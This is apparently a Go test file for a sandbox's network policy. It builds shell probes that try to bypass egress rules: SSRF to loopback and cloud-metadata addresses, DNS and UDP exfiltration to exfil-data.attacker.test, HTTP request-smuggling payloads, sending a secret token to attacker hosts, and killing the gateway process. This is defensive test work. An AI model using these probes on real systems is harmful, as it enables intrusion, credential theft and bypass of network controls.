package attack

import (
	"bytes"
	"context"
	"errors"
	"fmt"
	"slices"
	"strings"
	"sync"
	"time"

	"github.com/paddock-sandbox/paddock"
	"github.com/paddock-sandbox/paddock/attack/protocol"
)

// aliveScript shows the host that the network works.
const aliveScript = `curl -sf -m 10 "http://$ALIVE/alive"`

// fetch returns a technique for each URL, and curls one with options of curl.
func fetch(name string, urls ...string) []spell {
	return each(name, `curl -sf --globoff -m 3 "%s"`, urls...)
}

func curls(name string, args ...string) []spell {
	return each(name, `curl -sfk --globoff -m 3 %s`, args...)
}

// spoken returns a technique that sends bytes on a connection, in printf's notation. The
// answer is printed, and must come from a server.
func spoken(name, to, text string) spell {
	return spell{name, fmt.Sprintf(`exec 3<> /dev/tcp/%s && printf '%s' >&3 && timeout 1 cat <&3 | grep -a canary`, to, text)}
}

// networkScripts returns the scripts of a network row.
func networkScripts(id string) []spell {
	switch id {
	case "N01":
		return []spell{
			{"curl", `curl -sf http://allowed.test/ | grep canary`}, {"wget", `wget -qO- http://allowed.test/ | grep canary`}, {"below a wildcard", `curl -sf http://in.wild.test/ | grep canary`},
			{"TLS", `curl -sfk https://allowed.test/ | grep canary`}, {"TLS, looked into", `curl -sfk https://inspect.test/ok | grep canary`}, {"another protocol", `exec 3<> /dev/tcp/allowed.test/22 && head -n 1 <&3 | grep canary`},
		}
	case "N02":
		return slices.Concat(fetch("curl ", "http://stranger.test/", "http://denied.wild.test/", "http://nowhere.test/", "https://stranger.test/"),
			curls("with another host's header: ", `-H "Host: stranger.test" http://allowed.test/`, `-H "Host: stranger.test" http://inspect.test/ok`),
			[]spell{{"wget", `wget -qO- http://stranger.test/`}, {"network file", `exec 3<> /dev/tcp/stranger.test/80`}, {"JavaScript", `js-exec -c 'fetch("http://stranger.test/").then(r => r.text()).then(console.log, () => process.exit(1))'`}, {"git", `cd /tmp && git clone -q http://stranger.test/x.git`}})
	case "N03":
		return slices.Concat(fetch("curl ", "http://127.0.0.1/", "http://9.9.0.2/", "http://[::1]/", "http://11.0.0.67/", "http://10.0.0.1/", "http://198.18.0.1:3128/", "http://[2a00:1::2]/"),
			each("network file ", `exec 3<> /dev/tcp/%s`, "127.0.0.1/22", "9.9.0.2/80", "11.0.0.67/80", "::1/80", "localhost/80"),
			curls("elsewhere by an option: ", `--resolve allowed.test:80:127.0.0.1 http://allowed.test/`, `--connect-to ::127.0.0.1:80 http://allowed.test/`, `-x http://11.0.0.67:3128 http://allowed.test/`, `--interface lo http://11.0.0.67/`, `--noproxy "*" http://11.0.0.67/`, `--unix-socket "$SOCK" http://allowed.test/`))
	case "N04":
		return fetch("", "http://127.0.0.1/", "http://2130706433/", "http://0x7f000001/", "http://017700000001/", "http://127.1/", "http://0/", "http://0.0.0.0/", "http://[::1]/", "http://[::]/", "http://[::ffff:127.0.0.1]/", "http://[::ffff:7f00:1]/", "http://[64:ff9b::7f00:1]/", "http://127.0.0.1./", "http://127.0.0.1%00/", "http://①②⑦.⓪.⓪.①/", "http://localhost/", "http://x.localhost/", "http://11.0.0.1/", "http://11.0.0.67/", "http://0177.0.0.1/")
	case "N05":
		return slices.Concat(fetch("", "http://allowed.test:25/", "http://allowed.test:8080/", "http://allowed.test:53/", "http://in.wild.test:22/", "http://inspect.test:22/", "http://allowed.test:65616/", "http://udp.test/", "http://udp.test:443/"),
			each("network file ", `exec 3<> /dev/tcp/%s`, "allowed.test/25", "allowed.test/65616", "inspect.test/22"))
	case "N06":
		return fetch("", "http://169.254.169.254/", "http://100.100.100.200/", "http://[fd00:ec2::254]/", "http://2852039166/", "http://[::ffff:169.254.169.254]/", "http://[64:ff9b::a9fe:a9fe]/", "http://meta.test/", "http://meta6.test/", "http://127.0.0.1/", "http://own.test/", "http://9.9.0.2/", "http://10.0.0.1/", "http://private.test/")
	case "N07":
		var urls []string
		for name := range protocol.Turned() {
			urls = append(urls, "http://"+name+"/")
		}
		slices.Sort(urls)
		return fetch("", urls...)
	case "N08":
		return []spell{
			{"again", `for i in 1 2 3 4 5; do curl -s -m 3 http://rebind.test/; done | grep "of the host"`}, {"again, on one connection", `curl -s -m 3 http://rebind.test/ http://rebind.test/ http://rebind.test/ | grep "of the host"`},
			{"one of several", `for n in mixed mixed2 mixed6; do for i in 1 2 3; do curl -s -m 3 http://$n.test/; done; done | grep "of the host"`},
		}
	}
	return append(nameScripts(id), requestScripts(id)...)
}

func nameScripts(id string) []spell {
	switch id {
	case "N09":
		return slices.Concat(fetch("", "http://exfil-data.exfil.attacker.test/", "http://exfil-data.test/"), []spell{
			{"getent", `getent hosts exfil-data.attacker.test`}, {"datagram", `echo exfil > /dev/udp/8.8.8.8/53`}, {"connection", `exec 3<> /dev/tcp/8.8.8.8/53`}, {"network file", `exec 3<> /dev/tcp/exfil-data.attacker.test/80`},
			{"nslookup", `nslookup exfil-data.attacker.test || host exfil-data.attacker.test || dig exfil-data.attacker.test`}, {"ping", `ping -c 1 exfil-data.attacker.test`},
			{"JavaScript", `js-exec -c 'fetch("http://exfil-data.attacker.test/").then(() => 0, () => process.exit(1))'`}, {"over the web", `curl -sfk -m 3 "https://1.1.1.1/dns-query?dns=exfil"`},
		})
	case "N10":
		return slices.Concat(fetch("", "http://x%00.wild.test/", "http://a/b.wild.test/", "http://a b.wild.test/", "http://a%2fb.wild.test/", `http://a\\b.wild.test/`, "http://x..wild.test/", "http://.wild.test/", "http://*.wild.test/", "http://(x).wild.test/"),
			[]spell{{"network file", `exec 3<> "/dev/tcp/a b.wild.test/80"`}, {"told: data below a wildcard", `curl -sf -m 3 http://exfil-data.wild.test/`}})
	case "N16":
		return fetch("", "http://evilallowed.test/", "http://xwild.test/", "http://wild.test/", "http://wild.test./", "http://denied.wild.test./", "http://DENIED.WILD.test/", "http://denied。wild.test/", "http://allowed.test.attacker.test/", "http://allowed.test@stranger.test/", "http://stranger.test#allowed.test", "http://аllowed.test/", "http://*/", "http://*.wild.test/", "http://stranger.test?allowed.test")
	case "N22":
		return []spell{spoken("to what is looked into", "inspect.test/443", `SSH-2.0-x\r\n`), spoken("to what is looked into, plainly", "inspect.test/80", `\x00\x01exfil\r\n`), spoken("told: to what is allowed", "allowed.test/443", `SSH-2.0-x\r\n`)}
	case "N23":
		return fetch("", "http://198.18.0.1:3128/", "http://198.18.0.1:1080/")
	case "N24":
		return slices.Concat(fetch("", "http://allowed.test/", "http://in.wild.test/", "http://secret.test/ok", "http://198.18.1.0/", "http://198.18.1.1/"), []spell{{"told: its placeholder", `curl -sf -m 3 -H "Authorization: Bearer $PHASE" http://second.test/`}})
	case "N26":
		return slices.Concat(fetch("", "http://allowed.test/", "http://second.test/", "https://allowed.test/", "http://127.0.0.1/", "http://11.0.0.1/"), []spell{
			{"many", `for ((i = 0; i < 60; i++)); do curl -s -m 3 -o /dev/null http://allowed.test/ & done; wait; curl -sf -m 5 http://second.test/`},
			{"half requests", `for ((f = 10; f < 60; f++)); do eval "exec $f<> /dev/tcp/inspect.test/80 && printf 'GET /o' >&$f"; done; curl -sf -m 5 http://second.test/`},
		})
	case "N27":
		return fetch("", "ftp://allowed.test/", "gopher://stranger.test/", "dict://127.0.0.1:22/", "ldap://127.0.0.1/", "smtp://allowed.test:25/", "telnet://allowed.test:25/", "ws://stranger.test/", "http:stranger.test/", "scp://allowed.test/x")
	case "N32":
		return slices.Concat(each("datagram to ", `echo exfil > /dev/udp/%s`, "11.0.0.67/53", "11.0.0.8/4444", "udp.test/4444", "allowed.test/443", "127.0.0.1/4444", "255.255.255.255/53"), each("ping ", `ping -c 1 %s`, "8.8.8.8", "allowed.test", "127.0.0.1"))
	case "N33":
		return fetch("", "http://198.18.1.0/", "http://198.18.1.1/", "http://198.18.1.99/", "http://198.18.0.3/", "http://[fd7a:6f74::1:0]/", "http://198.19.255.255/")
	case "N34":
		return []spell{{"signal", `kill -9 "$GATEWAY"`}, {"its environment", `cat "/proc/$GATEWAY/environ"`}, {"its memory", `cat "/proc/$GATEWAY/mem"`}, {"by its name", `ps -ef | grep -v grep | grep paddock-gateway`}, {"by its name, in files", `grep -l paddock-gateway /proc/*/cmdline | grep -v self`}, {"pkill", `pkill -9 -f paddock-gateway`}}
	}
	return nil
}

func requestScripts(id string) []spell {
	auth := `-H "Authorization: Bearer $` + protocol.SecretEnv + `" `
	switch id {
	case "N11":
		return append(curls("header: ", `-H "Host: stranger.test" http://allowed.test/`, `-H "Host: stranger.test" http://inspect.test/ok`, `-H "Host: inspect-b.test" http://inspect.test/ok`, `-H "Host: stranger.test" https://inspect.test/ok`),
			spoken("line", "allowed.test/80", `GET http://stranger.test/ HTTP/1.1\r\nHost: allowed.test\r\nConnection: close\r\n\r\n`), spoken("two headers", "allowed.test/80", `GET / HTTP/1.1\r\nHost: allowed.test\r\nHost: stranger.test\r\nConnection: close\r\n\r\n`),
			spoken("folded", "inspect.test/80", `GET /ok HTTP/1.1\r\nHost: inspect.test\r\n stranger.test\r\nConnection: close\r\n\r\n`))
	case "N12":
		return slices.Concat(curls("host inside: ", `-H "Host: stranger.test" https://inspect.test/ok`, `-H "Host: inspect-b.test" https://inspect.test/ok`),
			curls("path inside: ", "https://inspect.test/private", "https://inspect.test/ok/../private", "https://inspect.test/ok/%2e%2e/private", "https://inspect.test//ok", "https://inspect.test/okay"),
			curls("name in TLS: ", `--connect-to stranger.test:443:allowed.test:443 https://stranger.test/`, `--resolve stranger.test:443:11.0.0.1 https://stranger.test/`))
	case "N17", "N18", "N19", "N20":
		return smuggledScripts(id)
	case "N28":
		return slices.Concat(curls("method ", `-X PUT http://inspect.test/ok/x`, `-X DELETE http://inspect.test/ok/x`, `-X PATCH https://inspect.test/ok/x`, `-T /etc/hostname http://inspect.test/ok/x`),
			curls("path ", "http://inspect.test/exfil", "http://inspect.test/ok/../exfil", "http://inspect.test/ok/%2e%2e/exfil", "http://inspect.test/ok%2f..%2fexfil"),
			[]spell{{"more than is allowed", `head -c 1000000 /dev/zero | curl -sf -m 5 --data-binary @- http://limited.test/`}, {"told: in what is allowed", `curl -sf -m 3 "http://inspect.test/ok/data?q=data"`}})
	case "N29":
		key := "$" + protocol.SecretEnv
		return curls("", auth+"http://allowed.test/", auth+"https://inspect.test/ok", auth+"http://secret.test/ok", auth+"http://secret.test:443/ok", `"https://secret.test/ok/`+key+`"`, `-d "`+key+`" https://secret.test/ok`, `-H "Host: `+key+`" https://secret.test/ok`, `-H "`+key+`: x" https://secret.test/ok`, `"http://`+key+`.wild.test/"`, `"http://`+key+`.attacker.test/"`)
	case "N30":
		var list []spell
		for _, as := range []string{"plain", "percent", "json", "header", "cookie", "location", "challenge", "error", "chunks", "type"} {
			list = append(list, spell{as, fmt.Sprintf(`curl -sik -m 5 %s"https://secret.test/ok/echo?as=%s&q=$%s"`, auth, as, protocol.SecretEnv)})
		}
		return append(list, spell{"base64", `curl -sk -m 5 ` + auth + `"https://secret.test/ok/echo?as=base64" | base64 -d`}, spell{"gzip", `curl -sk -m 5 --compressed ` + auth + `"https://secret.test/ok/echo?as=gzip"; curl -sk -m 5 ` + auth + `"https://secret.test/ok/echo?as=gzip" | gunzip`},
			spell{"a part", `curl -sk -m 5 -r 10-60 ` + auth + `"https://secret.test/ok/echo?as=plain"`}, spell{"environment", `env | grep ` + protocol.SecretEnv})
	}
	return nil
}

func smuggledScripts(id string) []spell {
	next := `GET /smuggled HTTP/1.1\r\nHost: inspect.test\r\nConnection: close\r\n\r\n`
	first := `POST /ok HTTP/1.1\r\nHost: inspect.test\r\n`
	// Only a server's answer to the second request counts.
	second := func(name, text string) spell {
		s := spoken(name, "inspect.test/80", text)
		s.script += ` | grep -a smuggled`
		return s
	}
	switch id {
	case "N17":
		return []spell{second("another path", `GET /ok HTTP/1.1\r\nHost: inspect.test\r\n\r\n`+next), second("another host", `GET /ok HTTP/1.1\r\nHost: inspect.test\r\n\r\nGET /ok/smuggled HTTP/1.1\r\nHost: inspect-b.test\r\n\r\n`)}
	case "N18":
		return []spell{
			second("length before chunks", first+`Content-Length: 85\r\nTransfer-Encoding: chunked\r\n\r\n0\r\n\r\n`+next), second("two lengths", first+`Content-Length: 0\r\nContent-Length: 80\r\n\r\n`+next),
			second("folded coding", first+`Content-Length: 5\r\nTransfer-Encoding:\r\n chunked\r\n\r\n0\r\n\r\n`+next), second("coding after a space", first+`Content-Length: 5\r\nTransfer-Encoding : chunked\r\n\r\n0\r\n\r\n`+next),
			second("length with a sign", first+`Content-Length: +0\r\n\r\n`+next), second("bare line feeds", `GET /ok HTTP/1.1\nHost: inspect.test\n\n`+next),
		}
	case "N19":
		return []spell{spoken("to another path", "inspect.test/80", `GET /private HTTP/1.1\r\nHost: inspect.test\r\nConnection: Upgrade\r\nUpgrade: websocket\r\nSec-WebSocket-Version: 13\r\nSec-WebSocket-Key: AAAAAAAAAAAAAAAAAAAAAA==\r\n\r\n`+next), second("that was not agreed to", `GET /ok/noupgrade HTTP/1.1\r\nHost: inspect.test\r\nConnection: Upgrade\r\nUpgrade: websocket\r\nSec-WebSocket-Version: 13\r\nSec-WebSocket-Key: AAAAAAAAAAAAAAAAAAAAAA==\r\n\r\n`+next)}
	}
	return []spell{spoken("prior knowledge", "inspect.test/80", `PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n`), second("upgrade", `GET /ok HTTP/1.1\r\nHost: inspect.test\r\nConnection: Upgrade, HTTP2-Settings\r\nUpgrade: h2c\r\nHTTP2-Settings: AAMAAABkAARAAAAAAAIAAAAA\r\n\r\n`+next), {"datagrams", `echo exfil > /dev/udp/allowed.test/443`}}
}

// open returns rules that allow everything.
func open() paddock.NetworkPolicy {
	ports := []uint16{22, 25, 53, 80, 443, 853, 1080, 3128, 8080}
	p := paddock.NetworkPolicy{Mode: paddock.NetworkList}
	for _, h := range []string{"*", "0.0.0.0/0", "::/0", "127.0.0.0/8", "10.0.0.0/8", "169.254.0.0/16", protocol.HostAddr} {
		p.Rules = append(p.Rules, paddock.NetworkRule{Host: h, Ports: ports})
	}
	return p
}

// online prepares the scripts of a network row: it checks that the network works, and that
// some script succeeds where all is allowed. Otherwise refusals would prove nothing.
func (x *trial) online(ctx context.Context, sb paddock.Sandbox, ways []spell) error {
	if x.w.brief.Phase != killedPhase {
		if try, err := x.script(ctx, sb, spell{"alive", aliveScript}); err != nil || try.Outcome != protocol.Inside {
			return errors.Join(err, fmt.Errorf("what is allowed cannot be reached: %s", try.Detail))
		}
	}
	if len(ways) == 0 || x.rounds > 0 || x.c.ID == "N31" {
		return nil
	}
	seen, err := x.w.witness.take()
	if err != nil {
		return err
	}
	x.before = append(x.before, seen)
	defer func() { _, _ = x.w.witness.take() }() // allowed traffic is not evidence
	free, err := x.box(func(s *paddock.Spec) { s.Policy.Network = open() })
	if err != nil {
		return fmt.Errorf("a sandbox that may all: %w", err)
	}
	defer func() {
		if err := free.Remove(context.WithoutCancel(ctx)); err != nil {
			x.extra = append(x.extra, "remove: "+err.Error())
		}
	}()
	kept := x.out
	defer func() { x.out = kept }()
	for _, way := range ways {
		if try, err := x.script(ctx, free, way); err != nil {
			return err
		} else if try.Outcome == protocol.Inside {
			return nil
		}
	}
	if _, never := offlineScripts()[x.c.ID]; never {
		return nil
	}
	return errors.New("no script succeeds where all is allowed, so that they are refused proves nothing")
}

// offlineScripts lists the rows whose scripts do not succeed even where all is allowed,
// with the reasons.
func offlineScripts() map[string]string {
	return map[string]string{
		"N10": "what is no name is none anywhere",
		"N17": "only what is judged can be judged twice",
		"N18": "as N17",
		"N19": "as N17",
		"N23": "the gateway is no host that a rule could allow",
		"N27": "its tools speak http alone",
		"N32": "there are no datagrams in a simulated computer",
		"N33": "an address that stands for no name leads nowhere",
		"N34": "processes of the host are not there",
	}
}

// killedPhase is the phase of a row without a gateway.
const killedPhase = "killed"

// A log is output that may be read while it grows.
type log struct {
	mu   sync.Mutex
	text bytes.Buffer
}

func (l *log) Write(p []byte) (int, error) {
	l.mu.Lock()
	defer l.mu.Unlock()
	return l.text.Write(p)
}

func (l *log) has(text string) bool {
	l.mu.Lock()
	defer l.mu.Unlock()
	return strings.Contains(l.text.String(), text)
}

// changeScripts is N25 for a tier with scripts only.
func (x *trial) changeScripts() []protocol.Try {
	ctx, cancel := x.brief(time.Minute)
	defer cancel()
	sb, err := x.box(nil)
	if err != nil {
		return []protocol.Try{broken("create", err)}
	}
	defer func() {
		if err := sb.Remove(context.WithoutCancel(ctx)); err != nil {
			x.extra = append(x.extra, "remove: "+err.Error())
		}
	}()
	if err := x.online(ctx, sb, nil); err != nil {
		return []protocol.Try{broken("before", err)}
	}
	out := &log{}
	held := `exec 3<> /dev/tcp/allowed.test/22 && head -n 1 <&3 && echo held && cat <&3; echo "it is closed"`
	p, err := sb.Start(ctx, paddock.Cmd{Args: []string{"bash", "-c", held}, Output: paddock.Output{Stdout: out, Stderr: out}})
	if err != nil {
		return []protocol.Try{broken("hold", err)}
	}
	defer p.Release()
	if !eventually(20*time.Second, func() bool { return out.has("held\n") }) || out.has("it is closed") {
		return []protocol.Try{broken("hold", fmt.Errorf("nothing is open: %q", &out.text))}
	}
	if err := x.narrow(sb); err != nil {
		return []protocol.Try{broken("update", err)}
	}
	tries := []protocol.Try{{Name: "what is open", Outcome: protocol.Denied, Errno: "closed"}}
	if !eventually(10*time.Second, func() bool { return out.has("it is closed") }) {
		tries[0] = reached("what is open", "it is still open")
	}
	for _, s := range slices.Concat(fetch("what was allowed: ", "http://allowed.test/", "https://allowed.test/", "http://198.18.1.0/"), fetch("what never was: ", "http://stranger.test/", "http://denied.wild.test/")) {
		try, err := x.script(ctx, sb, s)
		if err != nil {
			return append(tries, broken(s.name, err))
		}
		if try.Outcome == protocol.Inside {
			try.Outcome = protocol.Reached
		}
		tries = append(tries, try)
	}
	if try, err := x.script(ctx, sb, spell{"still allowed", `curl -sf -m 5 http://second.test/`}); err != nil || try.Outcome != protocol.Inside {
		return append(tries, broken("still allowed", errors.Join(err, errors.New(try.Detail))))
	}
	return tries
}
